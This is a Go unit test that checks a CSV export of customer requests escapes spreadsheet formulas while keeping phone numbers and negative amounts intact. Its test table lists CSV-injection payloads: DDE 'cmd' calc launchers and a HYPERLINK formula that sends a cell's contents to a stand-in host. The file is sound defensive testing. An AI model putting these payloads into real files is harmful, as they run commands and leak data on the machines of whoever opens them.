package outbox

import (
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
)

// What a customer writes is a text for whoever opens the files of his requests in
// a spreadsheet, and never a formula there; what cannot be one is left to the
// letter.
func TestNoFormulaInAFileOfRequests(t *testing.T) {
	for text, want := range map[string]string{
		"=1+1":                              "'=1+1",
		`=HYPERLINK("https://x/?"&A1;"ok")`: `'=HYPERLINK("https://x/?"&A1;"ok")`,
		"a;=1+1":                            "a;'=1+1",
		"a\t=1+1":                           "a\t'=1+1",
		"a\n=1+1":                           "a\n'=1+1",
		`a" =1+1`:                           `a"' =1+1`,
		"a,-A1; +1":                         "a,'-A1; +1",
		"=cmd|' /C calc'!A0":                "'=cmd|' /C calc'!A0",
		"+cmd|' /C calc'!A0":                "'+cmd|' /C calc'!A0",
		"-2+3+cmd|' /C calc'!A0":            "'-2+3+cmd|' /C calc'!A0",
		"@SUM(1+1)*cmd|' /C calc'!A0":       "'@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1":                            "'\t'=1+1",
		"\r=1+1":                            "''=1+1", // encoding/csv leaves it out
		"\n=1+1":                            "'\n'=1+1",
		"  =1+1":                            "'  =1+1",
		"\u00a0=1+1":                        "'\u00a0=1+1",
		"＝1+1":                              "'＝1+1",
		"-A1":                               "'-A1",
		"+33 6 12 34 56 78":                 "+33 6 12 34 56 78",
		"+33 (0)6.12/34-56":                 "+33 (0)6.12/34-56",
		"-12.50":                            "-12.50",
		"--":                                "--",
		"a=1+1":                             "a=1+1",
		"'=1+1":                             "'=1+1",
		"x@y.example":                       "x@y.example",
		"":                                  "",
	} {
		quoted, err := json.Marshal(text)
		if err != nil {
			t.Fatal(err)
		}
		d := Document{ID: "R1", Dossier: "d", Customer: "C", Contact: text, Actor: text, Kind: "order",
			Fields: json.RawMessage(`{"reference":` + string(quoted) + `,"price":-1.5}`), Lines: []json.RawMessage{json.RawMessage(`{"note":` + string(quoted) + `,"quantity":-2}`)}}
		header, lines, err := csvOf(d)
		if err != nil {
			t.Fatal(err)
		}
		h, l := cellsOf(t, header)[1], cellsOf(t, lines)[1]
		for name, got := range map[string]string{"the contact": h[3], "the actor": h[4], "a field": h[7], "a field of a line": l[2]} {
			if got != want {
				t.Errorf("%q: %s is %q, not %q", text, name, got, want)
			}
		}
		if h[8] != "-1.5" || l[3] != "-2" {
			t.Errorf("numbers are %q, %q", h[8], l[3])
		}
	}
}

func cellsOf(t *testing.T, text []byte) [][]string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(string(text))).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("%q: %v", text, err)
	}
	return rows
}
